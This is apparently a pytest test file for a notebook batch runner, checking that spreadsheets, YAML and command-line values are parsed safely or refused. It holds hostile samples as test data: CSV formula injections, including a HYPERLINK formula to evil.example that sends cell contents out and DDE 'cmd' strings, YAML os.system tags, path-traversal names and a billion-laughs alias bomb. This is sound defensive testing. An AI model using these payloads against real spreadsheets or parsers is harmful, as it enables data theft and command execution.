"""Batch files from real spreadsheets, command-line values and YAML a hostile (or unlucky) hand-in can hold: each
is read as meant, or refused by name with what to do, never a traceback, a wrong folder or an executed formula."""

from __future__ import annotations

import argparse
import csv
import json
import os
import subprocess
import sys
import time
import unicodedata
from pathlib import Path

import pytest

from helpers.cli import rows
from helpers.cli.batch import plan_batch, read_batch
from helpers.cli.main import build_parser, collect_parameters, typed_parameter
from helpers.cli.rows import run_row
from helpers.cli.runner import SECTIONS, notebook_parameters
from helpers.reporting.summary import write_summary

ROOT = Path(__file__).resolve().parent.parent
DECLARED = {k: v for s in SECTIONS for k, v in notebook_parameters(s).items()}
# 190 bytes that expand to 74,740 nodes (428,111 characters of grid as JSON); nine levels would be gigabytes
LAUGHS = ("a: &a [lol,lol,lol,lol,lol,lol,lol,lol,lol]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
          "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n")
BOMB_GRID = "{lr: [*d,*d,*d,*d,*d,*d,*d,*d,*d]}"


def write(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


def plan(rows, sections=("mlp",)):
    return plan_batch(rows, sections=list(sections), common={}, output_dir=Path("/nonexistent"))


def folders(rows) -> list[str]:
    pending, settled = plan(rows)
    assert not settled, [r["error"] for r in settled]
    return [r["name"] for r in pending]


def args_for(path: Path | None = None, parameter=()):
    return argparse.Namespace(parameters_file=path, parameter=[list(p) for p in parameter], profile=None)


# --- spreadsheets: encodings -----------------------------------------------------------------------------------

def test_a_csv_saved_by_excel_with_a_byte_order_mark_reads_every_row(tmp_path):
    """Excel's "CSV UTF-8": a BOM and CRLF line ends; the BOM used to become part of the first column's name."""
    path = write(tmp_path / "class.csv", "name,author_id,lr\r\nAda,0042,0.01\r\nBob,0043,0.1\r\n", "utf-8-sig")
    rows = read_batch(path, DECLARED)
    assert rows == [(2, {"name": "Ada", "author_id": "0042", "lr": 0.01}),
                    (3, {"name": "Bob", "author_id": "0043", "lr": 0.1})]
    assert folders(rows) == ["Ada", "Bob"]


@pytest.mark.parametrize("encoding, text, fragment", [
    ("cp1252", "name,author_name\nx1,José\n", "byte 0xe9 at offset 23 (line 2, column 7)"),
    ("cp1252", "name,course\nx1,\u201cDeep\u201d\n", "byte 0x93 at offset 15 (line 2"),  # Excel's smart quotes
    ("latin-1", "name\nÓlafur\n", "byte 0xd3 at offset 5 (line 2, column 1)"),
    ("utf-16", "name\tauthor_id\nAda\t1\n", "UTF-16 (Excel's 'Unicode text')"),
    ("utf-16-le", "name,author_id\nAda,1\n", "NUL byte at offset 1 (line 1)"),  # UTF-16 without its mark
])
def test_other_encodings_are_refused_by_name_with_what_to_do(tmp_path, encoding, text, fragment):
    path = write(tmp_path / "class.csv", text, encoding)
    with pytest.raises(SystemExit) as info:
        read_batch(path, DECLARED)
    message = str(info.value)
    assert str(path) in message and fragment in message and "CSV UTF-8" in message, message
    if encoding == "cp1252" and "José" in text:
        assert "read as Windows-1252 that line is 'x1,José'" in message


def test_a_workbook_saved_with_a_csv_name_is_refused_as_a_workbook(tmp_path):
    path = tmp_path / "class.csv"
    path.write_bytes(b"PK\x03\x04\x14\x00\x06\x00" + os.urandom(200))  # what an .xlsx starts with
    with pytest.raises(SystemExit, match=r"Excel workbook \(\.xlsx\).*CSV UTF-8"):
        read_batch(path, DECLARED)


def test_a_50_mb_csv_is_refused_by_its_size_before_it_is_read(tmp_path):
    path = tmp_path / "class.csv"
    with path.open("wb") as f:
        f.write(b"name\nAda\n")
        f.truncate(50 * 2**20)  # sparse: nothing is written, the size is what counts
    start = time.perf_counter()
    with pytest.raises(SystemExit, match=r"is 50\.0 MB; at most 16 MB is read"):
        read_batch(path, DECLARED)
    assert time.perf_counter() - start < 1


# --- spreadsheets: names and folders ---------------------------------------------------------------------------

def test_every_unicode_name_keeps_its_own_folder(tmp_path):
    path = write(tmp_path / "class.csv", "name\n李雷\n王芳\nJosé\nÓlafur Arnalds\nعلي\nДмитрий\nनेहा\n")
    assert folders(read_batch(path, DECLARED)) == ["李雷", "王芳", "José", "Ólafur_Arnalds", "علي", "Дмитрий", "नेहा"]


@pytest.mark.parametrize("first, second", [
    ("Ada", "ada"), ("ADA LOVELACE", "ada lovelace"),
    ("Jos\u00e9", "Jose\u0301"),  # NFC and NFD: one name to the eye, and to macOS
    ("Ada", "Ada\u200b"), ("Ada", "\u202dAda"),  # a zero-width space, a direction override
    ("Straße", "STRASSE"),
])
def test_names_one_folder_apart_on_a_case_insensitive_disk_are_refused_naming_both_rows(first, second):
    pending, settled = plan([(2, {"name": first}), (3, {"name": second})])
    assert [r["line"] for r in pending] == [2] and [r["line"] for r in settled] == [3]
    error = settled[0]["error"]
    assert error.startswith("line 3: ") and "line 2" in error and "case-insensitive" in error, error
    assert settled[0]["name"] == ""  # the refused row never points at the first row's folder


@pytest.mark.parametrize("name", [
    "../../etc/passwd", "/etc", "a/b\\c", ".bashrc", "-rf", "--output-dir=x", "nul\x00byte", "tab\there",
    "esc\x1b[31m", "CON", "aux", "com1", "LPT9", "COM¹", "x" * 300, "李" * 200, "😀 emoji", "a:b*c?d|e<f>g\"h",
    "\u202eexe.fdp", " spaced ", "ends.", "trailing ",
])
def test_folder_names_are_safe_on_every_file_system(tmp_path, name):
    pending, settled = plan([(2, {"name": name})])
    assert not settled, settled
    folder = pending[0]["name"]
    assert folder and not set(folder) & set('/\\:*?"<>|\x00'), folder
    assert not folder.startswith((".", "-", " ")) and not folder.endswith((".", " ")), folder
    assert all(unicodedata.category(ch)[0] != "C" for ch in folder), ascii(folder)
    assert folder.upper().split(".")[0] not in {"CON", "PRN", "AUX", "NUL", "COM1", "LPT9", "COM¹"}
    assert len(folder.encode()) <= 100, len(folder.encode())
    (tmp_path / folder).mkdir()  # a name the file system takes, inside the batch folder
    assert (tmp_path / folder).resolve().parent == tmp_path.resolve()


def test_long_names_that_differ_only_at_the_end_keep_two_folders():
    long = "Maria Magdalena " * 12
    names = folders([(2, {"name": long + "A"}), (3, {"name": long + "B"})])
    assert len(set(names)) == 2 and all(len(n.encode()) <= 100 for n in names)


def test_a_name_without_any_letter_is_refused_rather_than_called_row():
    pending, settled = plan([(2, {"name": "!!!"}), (3, {"name": ".."}), (4, {"name": "/"})])
    assert not pending and all("no letter or digit" in r["error"] for r in settled)


# --- values that look like options ------------------------------------------------------------------------------

HOSTILE_ROW = {"author_name": "-Ada", "author_id": "--output-dir=/tmp/x", "course": "-p", "seed": -1,
               "data_dir": "--no-input", "optimizers": ["-h", "--formats=pdf"], "grid": {"lr": [-0.5, 0.1]},
               "profile": "smoke"}


def test_values_that_look_like_options_reach_the_notebook_parameters_unchanged(tmp_path, monkeypatch):
    """The row's command line, as run_row starts it, parsed by the real parser: every value arrives as given and
    none changes an option (the row still writes its own folder, HTML only)."""
    started = []

    class Process:  # stands in for the row's process: records the command line, runs nothing
        def __init__(self, cmd, **_):
            started.append(cmd)

        def wait(self, timeout=None):
            return 1

    monkeypatch.setattr(rows.subprocess, "Popen", Process)
    folder = tmp_path / "Ada"
    run_row(folder, ["mlp"], HOSTILE_ROW, no_input=False, formats=["html"], threads=1)
    [cmd] = started
    assert cmd[1:4] == ["-m", "helpers", "run"]
    args = build_parser().parse_args(cmd[3:])
    assert args.sections == ["mlp"] and args.output_dir == folder and args.formats == "html"
    assert not args.no_input and args.batch is None
    assert collect_parameters(args, DECLARED) == HOSTILE_ROW


def test_a_batch_row_named_like_an_option_gets_its_folder_and_its_name(tmp_path):
    path = write(tmp_path / "class.csv", "name,author_id\n-Ada,--help\n")
    pending, settled = plan(read_batch(path, DECLARED))
    assert not settled and pending[0]["name"] == "Ada"
    assert pending[0]["params"] == {"author_id": "--help", "author_name": "-Ada"}


# --- summary.csv: formulas ---------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1"]
# as summary.csv holds them: a quote in front; after the tab too, where a spreadsheet splitting at tabs starts a cell
NEUTRALISED = ["'" + f for f in FORMULAS[:5]] + ["'\t'=1+1", "'\r=1+1", "'\n=1+1"]


def summary_cells(out: Path) -> list[dict]:
    with (out / "summary.csv").open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_summary_csv_cells_a_spreadsheet_would_run_are_neutralised_numbers_stay_numbers(tmp_path):
    results = [{"line": i + 2, "name": f"s{i}", "sections": ["mlp"], "status": "failed", "attempts": 1,
                "params": {"author_name": f, "author_id": f, "lr": -0.5 * (i + 1), "init": f, "seed": -i},
                "error": f, "seconds": 1.0, "worker": f} for i, f in enumerate(FORMULAS)]
    results.append({"line": 20, "name": "", "sections": [], "status": "bad row", "params": {"name": "x"},
                    "error": "=1+1 line 20"})
    write_summary(tmp_path, results, source="class.csv")
    rows = summary_cells(tmp_path)
    assert len(rows) == len(FORMULAS) + 1
    for row, expected in zip(rows, NEUTRALISED):
        for column in ("name", "id", "init", "error", "worker"):
            assert row[column] == expected, (column, row[column])
    assert rows[-1]["error"] == "'=1+1 line 20" and rows[-1]["name"] == "x"
    # a negative number is a number: no quote, so a spreadsheet can still sort and average it
    assert [float(r["lr"]) for r in rows[:-1]] == [-0.5 * (i + 1) for i in range(len(FORMULAS))]
    assert [r["seed"] for r in rows[:-1]] == [str(-i) for i in range(len(FORMULAS))]
    for row in rows:
        assert not any(v.startswith(("=", "+", "@", "\t", "\r", "\n")) for v in row.values()), row
        assert all(float(v) == float(v) for k, v in row.items() if k in ("line", "wall_seconds") and v)


def test_summary_csv_headers_from_refused_rows_are_neutralised_too(tmp_path):
    """When every row is refused, what the rows held (any column name at all) is what differs between them."""
    results = [{"line": 2, "name": "", "sections": [], "status": "bad row", "params": {"=1+1": "a", "@x": "-1"},
                "error": "unknown"},
               {"line": 3, "name": "", "sections": [], "status": "bad row", "params": {"=1+1": "b", "@x": "2"},
                "error": "unknown"}]
    write_summary(tmp_path, results, source="class.csv")
    with (tmp_path / "summary.csv").open(newline="") as f:
        header = next(csv.reader(f))
    assert "'=1+1" in header and "'@x" in header and not any(h.startswith(("=", "@", "+")) for h in header)


def test_summary_and_class_index_are_written_whole_or_not_at_all(tmp_path):
    """A disk that fills while the summary is written (a file-size limit stands in) leaves the previous files."""
    (tmp_path / "summary.csv").write_text("previous,good\n1,2\n")
    (tmp_path / "index.html").write_text("<html>previous good page</html>")
    script = f"""
import resource, signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
from pathlib import Path
from helpers.reporting.summary import write_summary
results = [{{"line": i, "name": "", "sections": [], "status": "bad row", "params": {{}}, "error": "x" * 2000}}
           for i in range(200)]
resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, resource.RLIM_INFINITY))
try:
    write_summary(Path({str(tmp_path)!r}), results, source="class.csv")
except OSError as exc:
    print("refused:", exc.errno)
"""
    done = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert "refused: 27" in done.stdout, done.stdout + done.stderr  # EFBIG: the limit did bite
    assert (tmp_path / "summary.csv").read_text() == "previous,good\n1,2\n"
    assert (tmp_path / "index.html").read_text() == "<html>previous good page</html>"
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith(".")]  # no temporary file left behind


# --- YAML: bounded ------------------------------------------------------------------------------------------------

def test_a_billion_laughs_parameters_file_is_refused_before_anything_is_built(tmp_path):
    path = write(tmp_path / "params.yaml", LAUGHS + f"grid: {BOMB_GRID}\n")
    assert path.stat().st_size < 250
    start = time.perf_counter()
    with pytest.raises(SystemExit) as info:
        collect_parameters(args_for(path), DECLARED)
    assert str(path) in str(info.value) and "aliases expand to more than 10,000 nodes" in str(info.value)
    assert time.perf_counter() - start < 1


def test_a_billion_laughs_value_is_refused_on_the_command_line_in_a_csv_cell_and_in_a_yaml_batch(tmp_path):
    value = "{" + LAUGHS.replace("\n", ", ").rstrip(", ") + ", grid: " + BOMB_GRID + "}"
    with pytest.raises(SystemExit, match="parameter grid: YAML aliases expand to more than 10,000 nodes"):
        collect_parameters(args_for(parameter=[("grid", value)]), DECLARED)
    cell = value.replace('"', '""')
    rows = read_batch(write(tmp_path / "class.csv", f'name,grid\nAda,"{cell}"\nBob,\n'), DECLARED)
    assert "aliases expand to more than 10,000 nodes" in rows[0][1]["__error__"] and rows[1][1] == {"name": "Bob"}
    laughs = "  " + LAUGHS.replace("\n", "\n  ")
    yaml_rows = read_batch(write(tmp_path / "class.yaml", f"anchors:\n{laughs}\nrows:\n- name: Ada\n  grid: "
                                 f"{BOMB_GRID}\n- name: Bob\n"), DECLARED)
    assert "aliases expand to more than 10,000 nodes" in yaml_rows[0][1]["__error__"]
    assert yaml_rows[1][1] == {"name": "Bob"}
    pending, settled = plan(yaml_rows)
    assert [r["line"] for r in settled] == [yaml_rows[0][0]] and [r["name"] for r in pending] == ["Bob"]


@pytest.mark.parametrize("text, fragment", [
    ("grid: &g [*g]\n", "an alias refers to a value that contains it"),
    ("grid: " + "[" * 3000 + "]" * 3000 + "\n", "nested too deeply"),
    ("grid: " + "[" * 40 + "]" * 40 + "\n", "nested 41 levels deep; at most 32"),
    ("grid: !!python/object/apply:os.system [echo hacked]\n", "tag !!python/object/apply:os.system is not allowed"),
    ("author_name: !!binary aGk=\n", "tag !!binary is not allowed"),
    ("- lr: 0.1\n- lr: 0.2\n", "expected a mapping of name: value (one per line), got a list"),
    ("just some words\n", "expected a mapping of name: value (one per line), got the value 'just some words'"),
    ("lr: 0.1\nseed: 2\nlr: 0.2\n", "parameter lr is given twice (lines 1 and 3)"),
    ("lr: [0.1\n", "not valid YAML: line 2"),
    ("lr: 0.1\n---\nlr: 0.2\n", "not valid YAML"),
    ("course: \x07bell\n", "not valid YAML"),
])
def test_hostile_parameters_files_are_refused_by_name(tmp_path, text, fragment):
    path = write(tmp_path / "params.yaml", text)
    with pytest.raises(SystemExit) as info:
        collect_parameters(args_for(path), DECLARED)
    assert str(info.value).startswith(f"error: parameters file {path}") and fragment in str(info.value), info.value


@pytest.mark.parametrize("make, fragment", [
    (lambda p: p, "does not exist"),
    (lambda p: (p.mkdir(), p)[1], "is not a regular file"),
    (lambda p: Path("/dev/zero"), "is not a regular file"),
    (lambda p: (p.write_bytes(b"\x00" * (3 * 2**20)), p)[1], "is 3.0 MB; at most 2 MB is read"),
    (lambda p: (p.write_bytes("lr: 0.1\n".encode("utf-16")), p)[1], "UTF-16"),
    (lambda p: (p.write_bytes("author_name: Jos\xe9\n".encode("cp1252")), p)[1], "is not UTF-8: byte 0xe9"),
])
def test_a_parameters_file_that_is_no_text_file_is_refused_by_name(tmp_path, make, fragment):
    path = make(tmp_path / "params.yaml")
    with pytest.raises(SystemExit) as info:
        collect_parameters(args_for(path), DECLARED)
    assert str(path) in str(info.value) and fragment in str(info.value), info.value


def test_merge_keys_apply_and_the_file_s_own_values_win(tmp_path):
    path = write(tmp_path / "params.yaml", "<<: {lr: 0.5, seed: 3}\nlr: 0.25\n")
    assert collect_parameters(args_for(path), DECLARED) == {"lr": 0.25, "seed": 3}


def test_a_yaml_batch_row_with_a_python_tag_is_refused_alone(tmp_path):
    path = write(tmp_path / "class.yaml", "- {name: Ada, grid: !!python/object/apply:os.system [touch pwned]}\n"
                                          "- {name: Bob, author_name: !!python/name:os.system }\n- {name: Cy}\n")
    rows = read_batch(path, DECLARED)
    assert "tag !!python/object/apply:os.system is not allowed" in rows[0][1]["__error__"]
    assert "tag !!python/name:os.system is not allowed" in rows[1][1]["__error__"]
    pending, settled = plan(rows)
    assert [r["name"] for r in pending] == ["Cy"] and [r["line"] for r in settled] == [1, 2]
    assert not (ROOT / "pwned").exists() and not Path("pwned").exists()


# --- the word none ------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("name, text, expected", [
    ("schedule", "none", "none"), ("pool", "none", "none"), ("norm", "none", "none"), ("weights", "none", "none"),
    ("activation", "none", "none"), ("regularizer", "none", "none"), ("final_augment", "none", "none"),
    ("test_flip", "none", "none"),
    ("pool", "None", None), ("norm", "null", None), ("final_augment", "~", None),  # each block's own, the profile's
    ("epochs", "none", None), ("data_dir", "none", None), ("classes", "none", None),
    ("author_name", "None", "None"), ("author_name", "Null", "Null"), ("author_id", "True", "True"),
    ("author_name", "Ada\u202e\n Lovelace\x1b", "Ada Lovelace"),
])
def test_none_is_a_word_where_the_parameter_takes_it_and_none_elsewhere(name, text, expected):
    assert typed_parameter(name, text, DECLARED) == expected


def test_none_stays_a_word_from_a_file_and_from_a_spreadsheet(tmp_path):
    path = write(tmp_path / "params.yaml", "schedule: none\npool: none\nnorm: ~\nepochs: none\n")
    assert collect_parameters(args_for(path), DECLARED) == {"schedule": "none", "pool": "none", "norm": None,
                                                            "epochs": None}
    rows = read_batch(write(tmp_path / "class.csv", "name,schedule,weights\nAda,none,none\n"), DECLARED)
    assert rows == [(2, {"name": "Ada", "schedule": "none", "weights": "none"})]


# --- other spreadsheet faults ----------------------------------------------------------------------------------

def test_a_european_excel_csv_with_semicolons_and_decimal_commas(tmp_path):
    path = write(tmp_path / "class.csv", 'name;author_id;lr;grid\r\nAda;0042;0,001;"{lr: [0.1, 0.01]}"\r\n'
                                         "Bob;0043;1,5;\r\n", "utf-8-sig")
    assert read_batch(path, DECLARED) == [(2, {"name": "Ada", "author_id": "0042", "lr": 0.001,
                                               "grid": {"lr": [0.1, 0.01]}}),
                                          (3, {"name": "Bob", "author_id": "0043", "lr": 1.5})]


def test_headers_with_spaces_capitals_and_invisible_characters_name_their_parameters(tmp_path):
    path = write(tmp_path / "class.csv", "Name , Author_ID,\u200bLR\t,Sections\nAda,0042,0.1,mlp\n")
    assert read_batch(path, DECLARED) == [(2, {"name": "Ada", "author_id": "0042", "lr": 0.1, "sections": "mlp"})]


@pytest.mark.parametrize("header", ["name,lr,lr", "name,lr,LR ", "Name,name"])
def test_a_column_given_twice_is_refused_naming_both(tmp_path, header):
    path = write(tmp_path / "class.csv", f"{header}\nAda,0.1,0.2\n")
    with pytest.raises(SystemExit, match=r"appears twice in the header \(columns \d and \d\)"):
        read_batch(path, DECLARED)


def test_empty_lines_and_rows_of_empty_cells_are_skipped(tmp_path):
    path = write(tmp_path / "class.csv", "name,author_id,,\nAda,1,,\n\n,,,\n  , ,,\nBob,2,,\n,,,\n\n")
    rows = read_batch(path, DECLARED)
    assert rows == [(2, {"name": "Ada", "author_id": "1"}), (6, {"name": "Bob", "author_id": "2"})]


def test_a_cell_with_a_line_break_is_one_value_and_later_rows_keep_their_lines(tmp_path):
    path = write(tmp_path / "class.csv", 'name,author_name\nada,"Ada\nLovelace"\nbob,Bob\n')
    rows = read_batch(path, DECLARED)
    assert rows == [(2, {"name": "ada", "author_name": "Ada Lovelace"}), (4, {"name": "bob", "author_name": "Bob"})]


def test_a_row_with_more_cells_than_the_header_is_refused_alone(tmp_path):
    path = write(tmp_path / "class.csv", "name,lr\nAda,0,1,extra\nBob,0.1\nCy,0.2,,\n")
    rows = read_batch(path, DECLARED)
    pending, settled = plan(rows)
    assert [r["name"] for r in pending] == ["Bob", "Cy"]
    assert settled[0]["line"] == 2 and "4 cells but the header has 2 columns" in settled[0]["error"]


def test_a_value_in_a_column_without_a_header_is_refused(tmp_path):
    rows = read_batch(write(tmp_path / "class.csv", "name,,lr\nAda,oops,0.1\n"), DECLARED)
    assert "in a column without a name" in rows[0][1]["__error__"]


def test_an_unbalanced_quote_is_refused_rather_than_swallowing_the_rows_after_it(tmp_path):
    path = write(tmp_path / "class.csv", 'name,author_name\nada,"Ada Lovelace\nbob,Bob\ncy,Cy\n')
    with pytest.raises(SystemExit, match=r"line \d: .*double quotes"):
        read_batch(path, DECLARED)


def test_an_identifier_like_0042_stays_text_in_the_folder_and_the_parameters(tmp_path):
    path = write(tmp_path / "class.csv", "name,author_id\n0042,0042\n1e3,007\n")
    pending, _ = plan(read_batch(path, DECLARED))
    assert [(r["name"], r["params"]["author_id"], r["params"]["author_name"]) for r in pending] == [
        ("0042", "0042", "0042"), ("1e3", "007", "1e3")]


def test_a_tab_separated_file_with_a_csv_name_is_read(tmp_path):
    path = write(tmp_path / "class.csv", "name\tauthor_id\tlr\nAda\t0042\t0.1\n")
    assert read_batch(path, DECLARED) == [(2, {"name": "Ada", "author_id": "0042", "lr": 0.1})]


def test_an_empty_batch_file_is_refused(tmp_path):
    for text in ("", "name,author_id\n", "name\n\n,\n"):
        with pytest.raises(SystemExit, match="has no rows"):
            read_batch(write(tmp_path / "class.csv", text), DECLARED)


def test_a_json_parameters_file_keeps_every_type_and_refuses_a_key_given_twice(tmp_path):
    path = write(tmp_path / "row.json", json.dumps({"author_name": "李雷 \U0001f600", "seed": 3, "classes": None}))
    assert collect_parameters(args_for(path), DECLARED) == {"author_name": "李雷 \U0001f600", "seed": 3,
                                                            "classes": None}
    with pytest.raises(SystemExit, match="'seed' is given twice"):
        collect_parameters(args_for(write(tmp_path / "row.json", '{"seed": 1, "seed": 2}')), DECLARED)
    with pytest.raises(SystemExit, match="expected an object of name: value, got list"):
        collect_parameters(args_for(write(tmp_path / "row.json", "[1, 2]")), DECLARED)


def test_excel_s_sep_line_and_old_mac_line_ends_are_read(tmp_path):
    path = write(tmp_path / "class.csv", "sep=;\r\nname;author_id;lr\r\nAda;0042;0,5\r\n")
    assert read_batch(path, DECLARED) == [(3, {"name": "Ada", "author_id": "0042", "lr": 0.5})]
    path = write(tmp_path / "class.csv", "name,author_id\rAda,0042\rBob,0043\r")
    assert read_batch(path, DECLARED) == [(2, {"name": "Ada", "author_id": "0042"}),
                                          (3, {"name": "Bob", "author_id": "0043"})]


def test_a_formula_after_a_separator_is_neutralised_for_spreadsheets_that_split_there(tmp_path):
    """A European spreadsheet splits the comma file at ';': what follows one must not start a formula either."""
    results = [{"line": 2, "name": "a", "sections": [], "status": "failed", "error": "x",
                "params": {"author_name": "Ada;=1+1", "author_id": "7,\t@SUM(A1)", "grid": [-0.5, -0.1]}},
               {"line": 3, "name": "b", "sections": [], "status": "failed", "error": "x",
                "params": {"author_name": "Bob", "author_id": "8", "grid": [0.5]}}]
    write_summary(tmp_path, results, source="class.csv")
    rows = summary_cells(tmp_path)
    assert rows[0]["name"] == "Ada;'=1+1" and rows[0]["id"] == "7,\t'@SUM(A1)" and rows[0]["grid"] == "[-0.5, -0.1]"
    text = (tmp_path / "summary.csv").read_text(encoding="utf-8")
    for sep in (";", ",", "\t"):
        assert not any(cell.lstrip(' "').startswith(("=", "@")) for line in text.splitlines()
                       for cell in line.split(sep)), sep
